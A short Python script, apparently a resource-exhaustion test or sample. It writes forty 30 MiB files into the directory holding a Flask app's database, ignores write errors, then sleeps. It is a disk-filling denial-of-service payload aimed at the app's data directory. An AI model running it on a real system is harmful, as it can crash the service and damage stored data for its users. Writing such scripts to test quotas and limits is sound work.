"""Writes files without end."""

import os
import time

place = os.path.dirname(os.environ["FLASK_DATABASE"])
for number in range(40):
    try:
        with open(f"{place}/{number}", "wb") as file:
            file.write(bytes(30 << 20))
    except OSError:
        pass
time.sleep(60)
